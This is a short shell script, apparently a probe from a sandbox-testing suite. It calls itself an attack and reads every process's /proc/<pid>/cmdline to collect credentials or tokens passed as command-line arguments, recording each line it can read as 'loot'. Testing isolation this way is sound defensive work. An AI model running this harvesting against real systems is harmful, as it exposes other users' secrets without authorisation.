#!/bin/sh
# Attack: credentials on the command line of any process (/proc/<pid>/cmdline
# is readable by everyone), e.g. a token handed to a child as an argument.
# Loot: every command line it could read.
. "$(dirname "$0")/common.sh"
loot "agent $$, parent $PARENT"
for pid in "$PARENT" /proc/[0-9]*; do
  pid=${pid#/proc/}
  if text=$(tr '\0' ' ' 2>/dev/null < "/proc/$pid/cmdline"); then
    loot "read /proc/$pid/cmdline: $text"
  else
    loot "denied /proc/$pid/cmdline"
  fi
done
finish
